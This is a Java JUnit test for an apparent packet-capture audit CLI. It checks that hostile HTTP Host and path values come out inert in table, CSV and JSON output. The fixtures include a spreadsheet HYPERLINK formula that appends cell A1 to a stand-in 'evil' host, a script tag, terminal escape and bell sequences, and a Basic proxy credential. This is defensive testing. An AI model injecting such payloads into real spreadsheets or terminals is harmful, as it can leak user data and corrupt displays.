package io.proxyaudit.robust;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.proxyaudit.capture.CaptureBytes;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.Arrays;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Names chosen by whoever made the traffic reach the outputs: a spreadsheet formula, markup and a terminal
 * escape sequence in the HTTP Host and target must come out inert in the table (terminal), CSV and NDJSON.
 */
class HostileNamesOutputTest {
    @TempDir
    Path dir;

    private static final String HOST = "=HYPERLINK(\"http://evil/\"&A1)<script>\u001b[2J\u0007.example";

    private Path capture() throws IOException {
        CaptureBytes c = CaptureBytes.create().pcapHeader(true, false, 65535, 101);
        byte[] pkt = new byte[2000];
        int n = SyntheticCapture.tcp4(pkt, 0, 0x0A000001, 0xC0000201, 40000, 80, 100, 0, 0x02, 0);
        c.pcapRecord(1_700_000_000L, 0, Arrays.copyOf(pkt, n), n);
        n = SyntheticCapture.tcp4(pkt, 0, 0xC0000201, 0x0A000001, 80, 40000, 900, 101, 0x12, 0);
        c.pcapRecord(1_700_000_000L, 1, Arrays.copyOf(pkt, n), n);
        byte[] req = ("GET /\u001b]0;pwned\u0007 HTTP/1.1\r\nHost: " + HOST + "\r\nUser-Agent: -2+3\r\n"
                + "Proxy-Authorization: Basic dXNlcjpzZWNyZXQ=\r\n\r\n").getBytes(StandardCharsets.ISO_8859_1);
        System.arraycopy(req, 0, pkt, 40, req.length);
        n = SyntheticCapture.tcp4(pkt, 0, 0x0A000001, 0xC0000201, 40000, 80, 101, 901, 0x18, req.length);
        c.pcapRecord(1_700_000_000L, 2, Arrays.copyOf(pkt, n), n);
        return c.write(dir, "hostile-names.pcap");
    }

    private static void inert(String out, String what) {
        assertFalse(out.chars().anyMatch(ch -> ch == 0x1b || ch == 0x07), what + " holds a raw escape/bell: " + out);
        assertFalse(out.contains("dXNlcjpzZWNyZXQ="), what + " holds the Proxy-Authorization credentials");
    }

    @Test
    void tableCsvAndJsonKeepHostileNamesInert() throws IOException {
        Path cap = capture();
        for (String format : new String[] {"table", "csv", "json"}) {
            CliRun r = CliRun.run("flows", "--format", format, cap.toString());
            assertEquals(0, r.exit(), format + ": " + r.err());
            inert(r.out() + r.err(), format);
            assertTrue(r.out().toLowerCase(java.util.Locale.ROOT).contains("hyperlink"), format + " shows the name: " + r.out());
        }
        CliRun csv = CliRun.run("flows", "--format", "csv", cap.toString());
        String row = csv.out().lines().skip(1).findFirst().orElseThrow();
        assertFalse(row.contains(",=") || row.contains(",\"="), "a cell starting with = is guarded: " + row);
        assertTrue(row.toLowerCase(java.util.Locale.ROOT).contains("'=hyperlink"), row);
    }
}
